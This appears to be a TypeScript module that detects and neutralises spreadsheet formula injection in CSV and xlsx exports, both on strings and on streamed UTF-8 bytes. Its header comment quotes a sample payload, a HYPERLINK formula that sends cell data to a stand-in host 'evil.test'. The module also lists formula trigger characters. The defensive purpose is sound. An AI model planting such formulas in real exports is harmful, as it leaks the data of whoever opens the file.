/*
 * Spreadsheet formula injection (CSV/formula injection): a cell whose text starts with = + - @
 * (or a tab, carriage return or line feed) is read by Excel, LibreOffice and Google Sheets as a
 * formula, so a log value such as `=HYPERLINK("https://evil.test?"&A1,"open")` would run on the
 * auditor's machine. Spreadsheets skip leading blanks before deciding, so the trigger is the first
 * character after them. The full-width forms count too: some IMEs turn them into formulas.
 *
 * One rule, read two ways from the same character sets: on strings (xlsx, and CSV built row by
 * row) and on UTF-8 bytes (the CSV that COPY writes, neutralised as it streams through). A test
 * holds the two equal on generated values.
 */

/** Blanks a spreadsheet skips before looking for a formula trigger. */
export const LEADING_BLANKS = " \t\r\n\u000b\u000c\u00a0\u3000";

/** Characters that start a formula when they are the first non-blank character. */
export const FORMULA_TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20";

/** Characters that make a cell suspect when they come first, whatever follows. */
const CONTROL_STARTS = "\t\r\n";

/**
 * First characters that decide nothing: digits, A-Z, a-z and their neighbours up to U+007F hold
 * no trigger and no blank. Most values start there, so one comparison settles them.
 */
function plainFirst(code: number): boolean {
  return (code >= 0x30 && code <= 0x39) || (code >= 0x41 && code <= 0x7f);
}

/** True when a spreadsheet could read the text as a formula. */
export function isFormulaLike(value: string): boolean {
  if (value === "" || plainFirst(value.charCodeAt(0))) return false;
  if (CONTROL_STARTS.includes(value.charAt(0))) return true;
  for (const ch of value) {
    if (LEADING_BLANKS.includes(ch)) continue;
    return FORMULA_TRIGGERS.includes(ch);
  }
  return false;
}

/**
 * The text made inert for CSV: a leading apostrophe, which every spreadsheet reads as "this is
 * text" (OWASP's recommendation). The value is otherwise unchanged, so a reader can strip it.
 */
export function neutraliseForCsv(value: string): string {
  return isFormulaLike(value) ? `'${value}` : value;
}

const utf8 = (chars: string) => [...chars].map((ch) => Buffer.from(ch, "utf8"));
const BLANK_BYTES = utf8(LEADING_BLANKS);
const TRIGGER_BYTES = utf8(FORMULA_TRIGGERS);
const CONTROL_BYTES = new Set([...CONTROL_STARTS].map((ch) => ch.charCodeAt(0)));

function matchAt(bytes: Uint8Array, at: number, end: number, candidates: readonly Buffer[]): number {
  for (const candidate of candidates) {
    if (at + candidate.length > end) continue;
    let same = true;
    for (let k = 0; k < candidate.length; k++) {
      if (bytes[at + k] !== candidate[k]) {
        same = false;
        break;
      }
    }
    if (same) return candidate.length;
  }
  return 0;
}

/**
 * isFormulaLike() for a value given as UTF-8 bytes [start, end). A doubled quote inside a quoted
 * CSV field stands for one quote character; a value starting with it is not a formula, and a
 * quote ends the blank-skipping either way, so the caller may pass the raw field content.
 */
export function isFormulaLikeUtf8(bytes: Uint8Array, start: number, end: number): boolean {
  if (start >= end) return false;
  const first = bytes[start]!;
  if (plainFirst(first)) return false;
  if (CONTROL_BYTES.has(first)) return true;
  let at = start;
  while (at < end) {
    const blank = matchAt(bytes, at, end, BLANK_BYTES);
    if (blank > 0) {
      at += blank;
      continue;
    }
    return matchAt(bytes, at, end, TRIGGER_BYTES) > 0;
  }
  return false;
}
